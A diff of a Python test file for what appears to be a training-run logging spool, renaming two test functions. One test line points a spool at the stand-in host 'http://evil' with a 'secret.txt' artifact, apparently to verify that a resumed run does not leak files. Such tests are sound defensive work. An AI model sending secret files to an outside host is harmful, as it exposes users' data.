@@ -200,7 +200,7 @@ def test_what_is_no_file_is_one_line(folder, capsys, kind):
     assert "is no file" in capsys.readouterr().err
 
 
-def test_a_line_that_a_crash_left_is_left_out(store, run_id, folder, capsys, caplog):
+def test_a_line_that_a_crash_left_is_omitted(store, run_id, folder, capsys, caplog):
     for part in ('{"op": "met', "{", '{"o'):
         write(folder, store.uri, [{"op": "tags", "values": {"a": "b"}}], run_id)
         with (folder / "unsent.jsonl").open("a") as file:
@@ -209,7 +209,7 @@ def test_a_line_that_a_crash_left_is_left_out(store, run_id, folder, capsys, cap
     assert "line 3: unfinished" in caplog.text
 
 
-def test_a_training_that_goes_on_sends_no_other_file_either(begin, folder, tmp_path):
+def test_a_training_that_continues_sends_no_other_file_either(begin, folder, tmp_path):
     first = begin()
     first.close()
     Spool(tmp_path / "run", first.run_id, "http://evil").append([artifact(tmp_path / "secret.txt")])
